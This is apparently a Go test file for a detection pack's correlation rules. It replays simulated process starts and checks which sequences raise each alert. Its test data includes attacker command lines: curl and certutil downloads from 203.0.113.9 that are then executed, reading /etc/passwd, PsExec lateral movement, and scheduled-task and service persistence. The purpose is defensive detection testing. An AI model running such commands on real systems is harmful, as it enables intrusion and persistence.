package rules

import (
	"io/fs"
	"path"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/detections"
	"github.com/quarry-sec/quarry/telemetry"
)

// loadWithCorrelations loads the whole pack: the rules at the root and the
// correlation rules and building blocks under correlations/.
func loadWithCorrelations(t *testing.T) []*detections.Rule {
	t.Helper()
	var rules []*detections.Rule
	err := fs.WalkDir(FS, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".yml") {
			return err
		}
		data, err := fs.ReadFile(FS, p)
		if err != nil {
			return err
		}
		res, err := detections.LoadBytes(p, data, detections.Options{Source: detections.SourceBuiltin})
		if err != nil {
			return err
		}
		for _, e := range res.Errors {
			t.Errorf("%s: %v", p, e)
		}
		rules = append(rules, res.Rules...)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

// step is one process start of a scenario: a rule's first positive test
// event (from, by rule file name) or fields given here, at an offset.
type step struct {
	at      time.Duration
	from    string            // tests/<from>: its first positive event
	fields  map[string]string // or these
	product string            // linux or "" (windows)
	host    string            // default host1
	ppid    int64
}

func (s step) event(t *testing.T, tests map[string]*ruleTests) *telemetry.Event {
	f, product := s.fields, s.product
	if s.from != "" {
		rt, ok := tests[s.from]
		if !ok || len(rt.Positive) == 0 {
			t.Fatalf("no positive test event for %s", s.from)
		}
		f, product = rt.Positive[0], rt.Product
	}
	ev := testEvent(product, f)
	ev.Time = time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC).Add(s.at)
	ev.Host = s.host
	if ev.Host == "" {
		ev.Host = "host1"
	}
	ev.PPID = s.ppid
	if ev.Fields.Len() > 0 && s.ppid != 0 {
		ev.Fields.Set("ParentProcessId", strconv.FormatInt(s.ppid, 10))
	}
	return ev
}

// TestBuiltinCorrelations plays, for every correlation rule of the pack, a
// sequence of process starts that must raise it exactly once, and a
// variant (wrong order, too far apart, another host or parent) that must
// not.
func TestBuiltinCorrelations(t *testing.T) {
	rules := loadWithCorrelations(t)
	tests := readTests(t)
	eng := detections.NewEngine(rules)
	lnx := func(at time.Duration, ppid int64, image, cmd string) step {
		return step{at: at, product: "linux", ppid: ppid, fields: map[string]string{"Image": image, "CommandLine": cmd, "User": "www-data"}}
	}
	win := func(at time.Duration, ppid int64, image, cmd string) step {
		return step{at: at, ppid: ppid, fields: map[string]string{"Image": image, "CommandLine": cmd, "User": `CORP\bob`}}
	}
	m := time.Minute
	cases := []struct {
		file      string
		fire, not []step
	}{
		{"corr_lnx_discovery_burst.yml",
			[]step{lnx(0, 100, "/usr/bin/whoami", "whoami"), lnx(10e9, 100, "/usr/bin/id", "id"), lnx(20e9, 100, "/usr/bin/uname", "uname -a"), lnx(30e9, 100, "/usr/bin/cat", "cat /etc/passwd")},
			[]step{lnx(0, 100, "/usr/bin/whoami", "whoami"), lnx(10e9, 100, "/usr/bin/id", "id"), lnx(20e9, 101, "/usr/bin/uname", "uname -a"), lnx(30e9, 100, "/usr/bin/cat", "cat /etc/passwd")}},
		{"corr_win_discovery_burst.yml",
			[]step{win(0, 7, `C:\Windows\System32\whoami.exe`, "whoami /all"), win(m, 7, `C:\Windows\System32\ipconfig.exe`, "ipconfig /all"), win(2*m, 7, `C:\Windows\System32\systeminfo.exe`, "systeminfo"), win(3*m, 7, `C:\Windows\System32\net.exe`, "net user /domain")},
			[]step{win(0, 7, `C:\Windows\System32\whoami.exe`, "whoami /all"), win(m, 7, `C:\Windows\System32\ipconfig.exe`, "ipconfig /all"), win(2*m, 7, `C:\Windows\System32\systeminfo.exe`, "systeminfo"), win(6*m, 7, `C:\Windows\System32\net.exe`, "net user /domain")}},
		{"corr_lnx_download_then_execute.yml",
			[]step{lnx(0, 1, "/usr/bin/curl", "curl -s -o /tmp/kdevtmp http://203.0.113.9/k"), lnx(m, 1, "/tmp/kdevtmp", "/tmp/kdevtmp")},
			[]step{lnx(0, 1, "/tmp/kdevtmp", "/tmp/kdevtmp"), lnx(m, 1, "/usr/bin/curl", "curl -s -o /tmp/kdevtmp http://203.0.113.9/k")}},
		{"corr_win_download_then_execute.yml",
			[]step{win(0, 1, `C:\Windows\System32\certutil.exe`, `certutil -urlcache -split -f http://203.0.113.9/a.exe C:\Users\bob\AppData\Local\Temp\a.exe`), win(2*m, 1, `C:\Users\bob\AppData\Local\Temp\a.exe`, `C:\Users\bob\AppData\Local\Temp\a.exe`)},
			[]step{win(0, 1, `C:\Windows\System32\certutil.exe`, `certutil -urlcache -split -f http://203.0.113.9/a.exe C:\Users\bob\AppData\Local\Temp\a.exe`), win(16*m, 1, `C:\Users\bob\AppData\Local\Temp\a.exe`, `C:\Users\bob\AppData\Local\Temp\a.exe`)}},
		{"corr_win_credential_dump_then_lateral.yml",
			[]step{{at: 0, from: "proc_creation_win_lsass_dump_comsvcs.yml"}, win(10*m, 1, `C:\Tools\PsExec64.exe`, `PsExec64.exe \\srv-files02 -s cmd.exe`)},
			[]step{win(0, 1, `C:\Tools\PsExec64.exe`, `PsExec64.exe \\srv-files02 -s cmd.exe`), {at: 10 * m, from: "proc_creation_win_lsass_dump_comsvcs.yml"}}},
		{"corr_lnx_decode_then_cron.yml",
			[]step{lnx(0, 1, "/usr/bin/base64", "base64 -d /tmp/p.b64"), {at: 5 * m, from: "proc_creation_lnx_crontab_persistence.yml"}},
			[]step{lnx(0, 1, "/usr/bin/base64", "base64 -d /tmp/p.b64"), {at: 31 * m, from: "proc_creation_lnx_crontab_persistence.yml"}}},
		{"corr_win_office_shell_then_persistence.yml",
			[]step{{at: 0, from: "proc_creation_win_shell_spawned_by_office.yml"}, win(3*m, 1, `C:\Windows\System32\schtasks.exe`, `schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon`)},
			[]step{{at: 0, from: "proc_creation_win_shell_spawned_by_office.yml"}, {at: 3 * m, host: "host2", fields: map[string]string{"Image": `C:\Windows\System32\schtasks.exe`, "CommandLine": `schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon`}}}},
		{"corr_win_webserver_shell_then_persistence.yml",
			[]step{{at: 0, from: "proc_creation_win_shell_spawned_by_web_server.yml"}, win(3*m, 1, `C:\Windows\System32\sc.exe`, `sc create updsvc binPath= C:\Windows\Temp\svc.exe`)},
			[]step{win(0, 1, `C:\Windows\System32\sc.exe`, `sc create updsvc binPath= C:\Windows\Temp\svc.exe`), {at: 3 * m, from: "proc_creation_win_shell_spawned_by_web_server.yml"}}},
		{"corr_win_recovery_inhibition.yml",
			[]step{{at: 0, from: "proc_creation_win_shadow_copy_deletion.yml"}, {at: m, from: "proc_creation_win_bcdedit_recovery_disabled.yml"}},
			[]step{{at: 0, from: "proc_creation_win_shadow_copy_deletion.yml"}, {at: 31 * m, from: "proc_creation_win_bcdedit_recovery_disabled.yml"}}},
		{"corr_lnx_webserver_shell_then_discovery.yml",
			[]step{{at: 0, from: "proc_creation_lnx_shell_spawned_by_web_server.yml"}, {at: m, from: "proc_creation_lnx_discovery_from_service.yml"}},
			[]step{{at: 0, from: "proc_creation_lnx_discovery_from_service.yml"}, {at: m, from: "proc_creation_lnx_shell_spawned_by_web_server.yml"}}},
		{"corr_win_mshta_then_shell.yml",
			[]step{{at: 0, from: "proc_creation_win_mshta_inline_script.yml"}, {at: m, from: "proc_creation_win_mshta_spawns_shell.yml"}},
			[]step{{at: 0, from: "proc_creation_win_mshta_inline_script.yml"}, {at: 6 * m, from: "proc_creation_win_mshta_spawns_shell.yml"}}},
	}
	seen := map[string]bool{}
	for _, c := range cases {
		seen[c.file] = true
		for variant, steps := range [][]step{c.fire, c.not} {
			corr, errs := detections.NewCorrelator(rules)
			if len(errs) > 0 {
				t.Fatal(errs)
			}
			n := 0
			emit := func(h detections.Hit, _ int64) {
				if path.Base(h.Rule.Path) == c.file {
					n++
				}
			}
			for i, s := range steps {
				ev := s.event(t, tests)
				eng.Match(ev, func(h detections.Hit) { corr.Observe(h, int64(i), emit) })
				corr.Advance(ev.Time, emit)
			}
			corr.Flush(emit)
			if want := 1 - variant; n != want {
				t.Errorf("%s: %s sequence raised it %d time(s), want %d", c.file, []string{"firing", "non-firing"}[variant], n, want)
			}
		}
	}
	count := 0
	for _, r := range rules {
		if r.Correlation == nil {
			continue
		}
		count++
		name := path.Base(r.Path)
		if !seen[name] {
			t.Errorf("%s: no scenario", name)
		}
		if r.Author != "Quarry team" || r.Description == "" || r.Recommendations == "" || len(r.Techniques) == 0 || r.Severity < detections.SeverityMedium {
			t.Errorf("%s: author, description, recommendations, techniques and a level of medium or more are required", name)
		}
	}
	if count < 10 {
		t.Errorf("%d correlation rules, want at least 10", count)
	}
}
